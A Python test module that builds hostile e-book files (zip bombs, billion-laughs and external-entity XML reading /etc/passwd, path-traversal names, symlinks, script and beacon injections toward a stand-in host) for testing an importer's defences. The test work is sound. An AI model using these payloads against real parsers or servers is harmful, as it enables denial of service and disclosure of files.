"""Builds hostile and broken books: what each attacks, and what must become of it.

The same call always gives the same bytes; only that of many members is larger than a megabyte.
`python -m tests.books.hostile FOLDER` writes them all with a manifest.
"""

import io
import json
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

BEACON = "http://beacon.invalid/"
"""Where everything that would be fetched from elsewhere lies. Whoever asks there has been caught."""

SENTENCE = "The old house stood alone on the grey moor."
LAKE = "The lake lay still under the pines."
RUSSIAN = "Старый дом стоял один на сером берегу, и ветер гнул чёрные сосны."

ZIP_DATE = (1980, 1, 1, 0, 0, 0)
XHTML = "application/xhtml+xml"

Expect = Literal["accept", "reject", "either"]
Item = tuple[str, str, str, str]
"""Id, href, media type and further attributes of an item of the package."""


@dataclass(frozen=True)
class Hostile:
    """`sentence` must be readable where the book is accepted; `codes` are those with which it may be refused."""

    name: str
    attack: str
    expect: Expect
    build: Callable[[], bytes]
    sentence: str = SENTENCE
    codes: tuple[str, ...] = ()

    def __str__(self) -> str:
        return self.name


BOOKS: list[Hostile] = []


def hostile(
    name: str, attack: str, expect: Expect, *, sentence: str = SENTENCE, codes: Sequence[str] = ()
) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Adds what the decorated function builds to `BOOKS`."""

    def add(build: Callable[[], bytes]) -> Callable[[], bytes]:
        BOOKS.append(Hostile(name, attack, expect, build, sentence, tuple(codes)))
        return build

    return add


# -- parts --------------------------------------------------------------------------------------------------------

SAFE_BODY = f"<h1>Chapter</h1><p>{SENTENCE}</p>"
NAV: Item = ("nav", "nav.xhtml", XHTML, 'properties="nav"')
CHAPTER: Item = ("c1", "c1.xhtml", XHTML, "")


def container(path: str = "OEBPS/content.opf") -> str:
    return (
        '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
        f'<rootfiles><rootfile full-path="{path}" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )


def document(body: str = SAFE_BODY, head: str = "", prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{prolog}<html xmlns="http://www.w3.org/1999/xhtml" '
        f'xmlns:epub="http://www.idpf.org/2007/ops"><head><title>Chapter</title>{head}</head>'
        f"<body>{body}</body></html>"
    )


def contents(*entries: tuple[str, str]) -> str:
    lines = "".join(f'<li><a href="{href}">{title}</a></li>' for href, title in entries)
    return document(f'<nav epub:type="toc"><ol>{lines}</ol></nav>')


def package(
    items: Sequence[Item] = (NAV, CHAPTER), spine: Sequence[str] = ("c1",), *, title: str = "Hostile", prolog: str = ""
) -> str:
    listed = "".join(
        f'<item id="{name}" href="{href}" media-type="{kind}" {more}/>' for name, href, kind, more in items
    )
    order = "".join(f'<itemref idref="{name}"/>' for name in spine)
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{prolog}<package xmlns="http://www.idpf.org/2007/opf" '
        'version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f'<dc:identifier id="id">urn:x:hostile</dc:identifier><dc:title>{title}</dc:title>'
        "<dc:language>en</dc:language></metadata>"
        f"<manifest>{listed}</manifest><spine>{order}</spine></package>"
    )


def entry(name: str, *, stored: bool = False, mode: int = 0o100644) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, ZIP_DATE)
    info.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    info.external_attr = mode << 16
    info.create_system = 3
    return info


def epub(
    files: Mapping[str, str | bytes | None] | None = None,
    *,
    body: str = SAFE_BODY,
    head: str = "",
    mimetype: bytes | None = b"application/epub+zip",
    extra: Iterable[tuple[zipfile.ZipInfo, bytes]] = (),
) -> bytes:
    """A book of one chapter. `files` replaces its files, or with None leaves them out; `extra` entries come last."""
    parts: dict[str, str | bytes | None] = {
        "META-INF/container.xml": container(),
        "OEBPS/content.opf": package(),
        "OEBPS/nav.xhtml": contents(("c1.xhtml", "Chapter")),
        "OEBPS/c1.xhtml": document(body, head),
        **(files or {}),
    }
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        warnings.simplefilter("ignore")  # of names that come twice
        if mimetype is not None:
            archive.writestr(entry("mimetype", stored=True), mimetype)
        for name, data in parts.items():
            if data is not None:
                archive.writestr(entry(name), data)
        for info, data in extra:
            archive.writestr(info, data)
    return buffer.getvalue()


def fb2(
    body: str, *, title: str = "Hostile", encoding: str = "utf-8", prolog: str = "", rest: str = "", cover: str = ""
) -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?>\n{prolog}'
        '<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0" xmlns:l="http://www.w3.org/1999/xlink">'
        "<description><title-info><genre>prose</genre><author><first-name>A</first-name><last-name>B</last-name>"
        f"</author><book-title>{title}</book-title>{cover}<lang>ru</lang></title-info><document-info><id>x</id>"
        f"<version>1.0</version></document-info></description><body>{body}</body>{rest}</FictionBook>"
    )
    return text.encode(encoding, "xmlcharrefreplace")


def png(width: int, height: int) -> bytes:
    """A valid picture of one bit a pixel: little on disk, much when it is decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    row = b"\0" * ((width + 7) // 8 + 1)
    rows = b"".join(packer.compress(row * min(500, height - at)) for at in range(0, height, 500))
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows + packer.flush()) + chunk(b"IEND", b"")


def entities(levels: int, kind: str) -> str:
    """A document type whose last entity expands to ten to the power of `levels`."""
    nested = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, levels + 1))
    return f'<!DOCTYPE {kind} [<!ENTITY a0 "lol">{nested}]>\n'


EXTERNAL = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "{BEACON}">]>\n'


# -- archives -----------------------------------------------------------------------------------------------------


@hostile("bomb-of-one-file.epub", "600 MB of zeros in one document", "reject", codes=["too_large"])
def _() -> bytes:
    listed = package((NAV, CHAPTER, ("bomb", "bomb.xhtml", XHTML, "")), ("c1", "bomb"))
    buffer = io.BytesIO(epub({"OEBPS/content.opf": listed}))
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(entry("OEBPS/bomb.xhtml"), "w") as bomb,
    ):
        for _ in range(600):
            bomb.write(b"\0" * (1 << 20))
    return buffer.getvalue()


@hostile("bomb-of-many-files.epub", "400 documents of 10 MB each", "reject", codes=["too_large"])
def _() -> bytes:
    page = b"<p>" + b" " * (10 << 20)
    names = [f"b{number}" for number in range(400)]
    listed = package([NAV, CHAPTER, *((name, f"{name}.xhtml", XHTML, "") for name in names)], ["c1", *names])
    # Packed once: each entry is copied from the first, as the ratio is what matters.
    return _repeated(epub({"OEBPS/content.opf": listed}), page, [f"OEBPS/{name}.xhtml" for name in names])


def _repeated(book: bytes, data: bytes, names: Sequence[str]) -> bytes:
    """Adds the same bytes under many names whose directory entries all point at one packed copy."""
    buffer = io.BytesIO(book)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(entry(names[0]), data)
        first = archive.getinfo(names[0])
        for name in names[1:]:
            twin = entry(name)
            twin.header_offset, twin.CRC = first.header_offset, first.CRC
            twin.compress_size, twin.file_size = first.compress_size, first.file_size
            archive.filelist.append(twin)
            archive.NameToInfo[name] = twin
        archive._didModify = True  # type: ignore[attr-defined]
    return buffer.getvalue()


@hostile("bomb-in-a-picture.epub", "200 MB of zeros that call themselves the cover", "reject", codes=["too_large"])
def _() -> bytes:
    listed = package((NAV, CHAPTER, ("cover", "cover.png", "image/png", 'properties="cover-image"')))
    return epub({"OEBPS/content.opf": listed, "OEBPS/cover.png": b"\0" * (200 << 20)})


@hostile("archives-in-archives.epub", "zips in zips in zips, ten copies a level", "either")
def _() -> bytes:
    data = b"\0" * (10 << 20)
    names = ["0.bin"]
    for _ in range(4):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
            for name in names:
                archive.writestr(entry(name), data)
        data, names = buffer.getvalue(), [f"{number}.zip" for number in range(10)]
    return epub({"OEBPS/nested.zip": data})


@hostile("many-members.epub", "70,000 members", "reject", codes=["too_large"])
def _() -> bytes:
    return epub(extra=[(entry(f"OEBPS/{number}", stored=True), b"") for number in range(70_000)])


@hostile("names-that-climb.epub", "members named ../../x and ..\\..\\x", "either")
def _() -> bytes:
    climbing = ("../../../../tmp/hostile_traversal", "OEBPS/../../../hostile2", "..\\..\\hostile3.txt")
    return epub(extra=[(entry(name), b"owned") for name in climbing])


@hostile("hrefs-that-climb.epub", "the package and a picture lead out of the archive", "accept")
def _() -> bytes:
    listed = package(
        (
            NAV,
            CHAPTER,
            ("x", "../../../../../../etc/passwd", "text/plain", ""),
            ("y", "%2e%2e/%2e%2e/%2e%2e/etc/hostname", "image/png", 'properties="cover-image"'),
        )
    )
    return epub({"OEBPS/content.opf": listed}, body=SAFE_BODY + '<img src="../../../../etc/passwd" alt=""/>')


@hostile("absolute-paths.epub", "the container names /etc/passwd", "reject", codes=["invalid_publication"])
def _() -> bytes:
    return epub(
        {"META-INF/container.xml": container("/etc/passwd")},
        extra=[(entry("/etc/hostile_abs"), b"x"), (entry("C:\\hostile.txt"), b"x")],
    )


@hostile("link-as-a-member.epub", "a chapter that is a symbolic link to /etc/passwd", "either")
def _() -> bytes:
    listed = package((NAV, CHAPTER, ("c2", "c2.xhtml", XHTML, "")), ("c1", "c2"))
    return epub({"OEBPS/content.opf": listed}, extra=[(entry("OEBPS/c2.xhtml", mode=0o120777), b"/etc/passwd")])


@hostile("the-same-name-twice.epub", "two members of one name, the second with a script", "either")
def _() -> bytes:
    second = document("<script>alert(1)</script><p>second</p>")
    return epub(extra=[(entry("OEBPS/c1.xhtml"), second.encode())])


@hostile("wrong-mimetype.epub", "the mimetype comes last, packed, and says application/zip", "either")
def _() -> bytes:
    return epub(mimetype=None, extra=[(entry("mimetype"), b"application/zip")])


@hostile("zip-password.epub", "members locked with a zip password", "reject", codes=["protected"])
def _() -> bytes:
    return _changed_headers(epub(), locked=True)


@hostile(
    "size-that-lies.epub",
    "the directory claims 500 MB for a short chapter",
    "either",
    codes=["broken_archive", "too_large"],
)
def _() -> bytes:
    return _changed_headers(epub(), size=500 << 20)


def _changed_headers(data: bytes, *, locked: bool = False, size: int | None = None) -> bytes:
    """Sets the flag of encryption on every member but the mimetype, or the chapter's size in the directory."""
    changed = bytearray(data)
    for signature, flags, name in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        at = changed.find(signature)
        while at >= 0:
            if locked and changed[at + name : at + name + 8] != b"mimetype":
                changed[at + flags] |= 1
            if size is not None and name == 46 and b"c1.xhtml" in changed[at + name : at + name + 20]:
                struct.pack_into("<I", changed, at + 24, size)
            at = changed.find(signature, at + 4)
    return bytes(changed)


@hostile("no-bytes.epub", "a file of no bytes", "reject", codes=["empty"])
def _() -> bytes:
    return b""


@hostile("cut-off.epub", "a download that stopped at 60 percent", "reject", codes=["broken_archive"])
def _() -> bytes:
    data = epub(body=SAFE_BODY * 200)
    return data[: len(data) * 6 // 10]


@hostile("names-with-controls.epub", "control and bidirectional characters in names and in the title", "accept")
def _() -> bytes:
    title = 'A&#9;B&#10;&#x202e;gnp.exe&#x200b;\u2028&lt;b&gt;"; filename=x'
    names = ["a\x01\x07b.txt", "new\nline.txt", "\u202egnp.txt", "CON", "n" * 4000]
    return epub({"OEBPS/content.opf": package(title=title)}, extra=[(entry(f"OEBPS/{name}"), b"x") for name in names])


# -- entities, sizes and depths -----------------------------------------------------------------------------------


@hostile("entities-in-the-package.epub", "external entities in the title", "either")
def _() -> bytes:
    return epub({"OEBPS/content.opf": package(title="T &e; &h;", prolog=EXTERNAL)})


@hostile("entities-in-the-contents.epub", "external entities in the NCX", "either")
def _() -> bytes:
    ncx = (
        f'<?xml version="1.0"?>\n{EXTERNAL}<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/" version="2005-1"><navMap>'
        '<navPoint id="p" playOrder="1"><navLabel><text>&e;&h;</text></navLabel><content src="c1.xhtml"/></navPoint>'
        "</navMap></ncx>"
    )
    listed = package((CHAPTER, ("ncx", "toc.ncx", "application/x-dtbncx+xml", "")))
    listed = listed.replace("<spine>", '<spine toc="ncx">').replace('version="3.0"', 'version="2.0"')
    return epub({"OEBPS/content.opf": listed, "OEBPS/toc.ncx": ncx, "OEBPS/nav.xhtml": None})


@hostile("entities.fb2", "external and parameter entities", "either", sentence="before")
def _() -> bytes:
    prolog = (
        f'<!DOCTYPE FictionBook [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "{BEACON}p.dtd"> %p;]>\n'
    )
    return fb2("<section><p>before &e; after</p></section>", prolog=prolog)


@hostile("a-billion-laughs.fb2", "entities that expand to ten thousand million", "reject", codes=["too_large"])
def _() -> bytes:
    return fb2("<section><p>&a10;</p></section>", prolog=entities(10, "FictionBook"))


@hostile("a-billion-laughs.epub", "the same in a chapter", "either", codes=["empty", "too_large"])
def _() -> bytes:
    return epub({"OEBPS/c1.xhtml": document("<p>&a10;</p>", prolog=entities(10, "html"))})


@hostile("attribute-of-40-mb.epub", "an attribute of 40 MB", "either", sentence="text", codes=["too_large"])
def _() -> bytes:
    return epub(body=f'<p title="{"A" * (40 << 20)}">text</p>')


@hostile("deep.epub", "elements 100,000 deep in each other", "either", sentence="deep", codes=["too_large"])
def _() -> bytes:
    return epub(body="<div>" * 100_000 + "deep" + "</div>" * 100_000)


@hostile("deep.fb2", "sections 20,000 deep in each other", "either", sentence="deep", codes=["too_large"])
def _() -> bytes:
    return fb2("<section>" * 20_000 + "<p>deep</p>" + "</section>" * 20_000)


@hostile("long-reading-order.epub", "a reading order of 50,000 times one chapter", "either", codes=["too_large"])
def _() -> bytes:
    return epub({"OEBPS/content.opf": package(spine=["c1"] * 50_000)})


@hostile("circles.epub", "fallbacks and contents that lead to themselves", "either")
def _() -> bytes:
    items = (
        NAV,
        CHAPTER,
        ("a", "a.bin", "application/x-a", 'fallback="b"'),
        ("b", "b.bin", "application/x-b", 'fallback="a"'),
        ("ncx", "toc.ncx", "application/x-dtbncx+xml", ""),
    )
    points = (
        '<navPoint id="p" playOrder="1"><navLabel><text>x</text></navLabel><content src="toc.ncx#p"/>' * 200
        + "</navPoint>" * 200
    )
    ncx = f'<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/" version="2005-1"><navMap>{points}</navMap></ncx>'
    listed = package(items, ("a", "c1", "ncx")).replace("<spine>", '<spine toc="ncx">')
    return epub({"OEBPS/content.opf": listed, "OEBPS/toc.ncx": ncx, "OEBPS/nav.xhtml": contents(("nav.xhtml", "me"))})


@hostile(
    "package-as-its-chapter.epub",
    "reading order and contents are the package itself",
    "reject",
    codes=["invalid_publication"],
)
def _() -> bytes:
    listed = package((("me", "content.opf", XHTML, 'properties="nav"'),), ("me", "me"))
    return epub({"OEBPS/content.opf": listed, "OEBPS/c1.xhtml": None, "OEBPS/nav.xhtml": None})


# -- what runs or fetches -----------------------------------------------------------------------------------------


@hostile("active.epub", "scripts, handlers, frames, forms, base and refresh", "accept", sentence=LAKE)
def _() -> bytes:
    head = f'<meta http-equiv="refresh" content="0;url={BEACON}r"/><base href="{BEACON}b/"/>'
    return epub(body=ACTIVE, head=head)


ACTIVE = f"""<h1>Chapter</h1><p>{LAKE}</p>
<script>document.title='pwned'</script><script src="{BEACON}x.js"></script>
<p onclick="alert(1)" ONMOUSEOVER="alert(2)">click</p><img src="missing.png" onerror="alert(3)" alt=""/>
<a href="javascript:alert(4)">a</a> <a href=" java&#10;script:alert(5)">b</a>
<a href="data:text/html,&lt;script&gt;alert(6)&lt;/script&gt;">c</a> <a href="vbscript:msgbox(7)">d</a>
<iframe src="{BEACON}frame"></iframe><iframe srcdoc="&lt;script&gt;alert(8)&lt;/script&gt;"></iframe>
<object data="{BEACON}o.swf"></object><embed src="{BEACON}e.swf"/>
<form action="{BEACON}f"><input name="pw" type="password"/><button>send</button></form>
<p style="background:url(javascript:alert(9));width:expression(alert(10))">s</p>
<details open="open" ontoggle="alert(11)"><summary>s</summary>d</details>
<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><a href="javascript:alert(12)">m</a></mtext></math>"""


@hostile("active-drawings.epub", "scripts and handlers in SVG, inline and as a page of its own", "accept")
def _() -> bytes:
    listed = package((NAV, CHAPTER, ("s", "pic.svg", "image/svg+xml", "")), ("c1", "s"))
    return epub({"OEBPS/content.opf": listed, "OEBPS/pic.svg": DRAWING}, body=SAFE_BODY + DRAWING)


DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" '
    'onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><rect width="5" height="5"/></a>'
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(4)</script></body></foreignObject>'
    f'<set attributeName="onmouseover" to="alert(5)"/><image xlink:href="{BEACON}i.png"/></svg>'
)


@hostile("beacons.epub", "everything that a page, a sheet or a package can fetch from elsewhere", "accept")
def _() -> bytes:
    items = (
        NAV,
        ("c1", "c1.xhtml", XHTML, 'properties="remote-resources"'),
        ("css", "s.css", "text/css", ""),
        ("remote", f"{BEACON}remote.png", "image/png", ""),
    )
    return epub(
        {"OEBPS/content.opf": package(items), "OEBPS/s.css": FETCHING_SHEET},
        body=SAFE_BODY + FETCHING,
        head=FETCHING_HEAD,
    )


FETCHING_SHEET = (
    f'@import url("{BEACON}a.css");@font-face{{font-family:f;src:url({BEACON}f.woff)}}'
    f"body{{background:url({BEACON}b.png)}}p{{content:url({BEACON}c.png)}}"
    f'@namespace x "{BEACON}";.a{{background:\\75 rl({BEACON}d.png)}}'
)
FETCHING_HEAD = (
    f'<link rel="stylesheet" href="s.css"/><link rel="stylesheet" href="{BEACON}l.css"/>'
    f'<link rel="prefetch" href="{BEACON}p"/><link rel="dns-prefetch" href="//beacon.invalid"/>'
    f'<style>@import "{BEACON}s.css"; h1{{background:url({BEACON}h.png)}}</style>'
)
FETCHING = (
    f'<img src="{BEACON}1.png" alt=""/><img src="//beacon.invalid/2.png" srcset="{BEACON}3.png 2x" alt=""/>'
    f'<video poster="{BEACON}4.png" src="{BEACON}5.mp4"></video><audio src="{BEACON}6.mp3" autoplay="autoplay"></audio>'
    f'<table background="{BEACON}7.png"><tr><td style="background-image:url(\'{BEACON}8.png\')">x</td></tr></table>'
)


@hostile("page-as-a-cover.epub", "a page with a script that calls itself cover.png", "accept")
def _() -> bytes:
    listed = package((NAV, CHAPTER, ("cover", "cover.png", "image/png", 'properties="cover-image"')))
    return epub({"OEBPS/content.opf": listed, "OEBPS/cover.png": "<html><script>alert(1)</script></html>"})


@hostile("cover-of-a-gigapixel.epub", "a cover of 30,000 x 30,000 pixels in 100 KB", "accept")
def _() -> bytes:
    listed = package((NAV, CHAPTER, ("cover", "cover.png", "image/png", 'properties="cover-image"')))
    return epub({"OEBPS/content.opf": listed, "OEBPS/cover.png": png(30_000, 30_000)})


@hostile("binaries.fb2", "binaries that are no pictures, links that run or fetch", "accept", sentence="text x")
def _() -> bytes:
    return fb2(
        '<section><p>text <a l:href="javascript:alert(1)">x</a></p><image l:href="#bad"/><image l:href="#html"/>'
        f'<image l:href="{BEACON}i.png"/></section>',
        rest='<binary id="bad" content-type="image/png">@@@not base64@@@</binary>'
        '<binary id="html" content-type="text/html">PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==</binary>',
        cover='<coverpage><image l:href="#html"/></coverpage>',
    )


# -- locks, encodings and damage ----------------------------------------------------------------------------------


@hostile("locked.epub", "a chapter under a seller's lock", "reject", codes=["protected"])
def _() -> bytes:
    encryption = (
        '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
        '<EncryptedData xmlns="http://www.w3.org/2001/04/xmlenc#">'
        '<EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/>'
        '<KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"><resource xmlns="http://ns.adobe.com/adept">urn:uuid:0'
        '</resource></KeyInfo><CipherData><CipherReference URI="OEBPS/c1.xhtml"/></CipherData></EncryptedData>'
        "</encryption>"
    )
    return epub(
        {
            "META-INF/encryption.xml": encryption,
            "META-INF/rights.xml": '<rights xmlns="http://ns.adobe.com/adept"/>',
            "OEBPS/c1.xhtml": bytes((number * 73 + 41) % 256 for number in range(2048)),
        }
    )


@hostile(
    "locked-without-a-word.epub",
    "a chapter under a lock that only a rights file betrays",
    "reject",
    codes=["protected"],
)
def _() -> bytes:
    noise = bytes((number * 73 + 41) % 256 for number in range(2048))
    return epub({"META-INF/rights.xml": "<rights/>", "OEBPS/c1.xhtml": noise})


@hostile("no-bytes.fb2", "an FB2 of no bytes", "reject", codes=["empty"])
def _() -> bytes:
    return b""


@hostile("cut-off.fb2", "an FB2 cut off within a paragraph", "either", sentence="one more line of text")
def _() -> bytes:
    data = fb2("<section>" + "<p>one more line of text</p>" * 500 + "</section>")
    return data[: len(data) // 2]


@hostile("invalid-utf-8.epub", "bytes that are no UTF-8, and NULs", "accept")
def _() -> bytes:
    page = document(SAFE_BODY + "<p>@@</p>").encode()
    return epub({"OEBPS/c1.xhtml": page.replace(b"@@", b"caf\xe9 \xff\xfe \xc0\xaf \xed\xa0\x80 \x00 end")})


@hostile("utf-16.epub", "package and chapter in UTF-16", "accept")
def _() -> bytes:
    def wide(text: str) -> bytes:
        return text.replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16")

    return epub({"OEBPS/content.opf": wide(package()), "OEBPS/c1.xhtml": wide(document())})


@hostile("windows-1251.fb2", "an FB2 in windows-1251", "accept", sentence=RUSSIAN)
def _() -> bytes:
    body = f"<section><title><p>Глава первая</p></title><p>{RUSSIAN}</p></section>"
    return fb2(body, title="Книга", encoding="windows-1251")


def main() -> None:
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for book in BOOKS:
        (folder / book.name).write_bytes(book.build())
    manifest = [{"file": book.name, "attack": book.attack, "expect": book.expect} for book in BOOKS]
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=1), encoding="utf-8")
    print(f"{len(BOOKS)} books written to {folder}")


if __name__ == "__main__":
    main()
